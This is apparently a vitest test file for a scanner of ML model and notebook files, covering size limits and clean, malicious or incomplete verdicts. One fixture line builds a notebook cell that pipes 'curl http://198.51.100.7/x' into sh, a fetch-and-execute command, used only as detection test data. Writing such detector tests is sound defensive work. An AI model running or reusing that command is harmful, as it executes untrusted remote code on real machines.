import { describe, expect, it } from "vitest";
import type { FileReport } from "../core/report.js";
import { scanBytes } from "../core/scan-bytes.js";
import { zip } from "../testing/assemble.js";

/** So small a limit stands for the 32 MiB of the default. */
function scan(data: Buffer, name: string): FileReport {
  return scanBytes(data, name, { textBytes: 4096 });
}

function notebook(output: number, source: string): Buffer {
  const outputs = [{ output_type: "display_data", data: { "image/png": "A".repeat(output) } }];
  const cells = [
    { cell_type: "code", source: ["import numpy as np\n"], outputs },
    { cell_type: "code", source: [source], outputs: [] },
  ];
  return Buffer.from(JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 }));
}

const FETCHES = "import os\nos.system('curl http://198.51.100.7/x | sh')\n";

describe("notebooks above the limit on texts", () => {
  it("are read whole up to four times of it, as pictures make them large", () => {
    expect(scan(notebook(8000, "print(1)"), "n.ipynb")).toMatchObject({
      format: "notebook",
      verdict: "clean",
    });
    expect(scan(notebook(8000, FETCHES), "n.ipynb").verdict).toBe("malicious");
  });

  it("are incomplete beyond that", () => {
    expect(scan(notebook(20_000, FETCHES), "n.ipynb").verdict).toBe("incomplete");
    expect(scan(notebook(20_000, "print(1)"), "n.ipynb").verdict).toBe("incomplete");
  });
});

describe("what lies behind the limit on texts is not passed over in", () => {
  const long = (line: string): Buffer => Buffer.from(`${line}\n`.repeat(1000));
  it.each([
    ["a network of Caffe", long("layer { name: 'a' }"), "net.prototxt"],
    ["a list of packages", long("numpy==1.26.4"), "requirements.txt"],
    ["an MLmodel", long("run_id: abc"), "MLmodel"],
    ["Python", long("x = 1"), "m.py"],
    ["YAML", long("- a: 1"), "c.yaml"],
    [
      "a handler",
      zip(
        {
          name: "MAR-INF/MANIFEST.json",
          data: Buffer.from('{"model":{"modelName":"m","handler":"handler.py"}}'),
        },
        { name: "handler.py", data: long("x = 1") },
      ),
      "m.mar",
    ],
  ])("%s", (_, data, name) => {
    const { verdict, findings } = scan(data, name);
    expect(findings.map(({ rule }) => rule)).toContain("limit-reached");
    expect(verdict).toBe("incomplete");
  });

  it("but data are read for their keys, however long", () => {
    const rows = Buffer.from(JSON.stringify(Array.from({ length: 1000 }, (_, id) => ({ id, text: "a" }))));
    expect(scan(rows, "train.json").verdict).toBe("clean");
    expect(scan(Buffer.from(`{"a":"${"x".repeat(5000)}","chat_template":"{{ 1 }}"}`), "c.json").verdict).toBe(
      "incomplete",
    );
  });
});
